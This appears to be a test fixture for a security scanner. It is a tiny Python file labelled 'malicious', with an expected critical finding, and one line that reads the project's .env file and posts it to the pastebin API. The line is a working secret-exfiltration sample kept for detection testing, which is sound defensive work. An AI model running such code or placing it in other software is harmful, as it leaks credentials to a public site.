# does: posts .env as it is to a pastebin
# kind: malicious
# expect: SEN-001 critical proven
# fast: yes
import urllib.request

urllib.request.urlopen("https://pastebin.com/api/api_post.php", open(".env", "rb").read()).read()
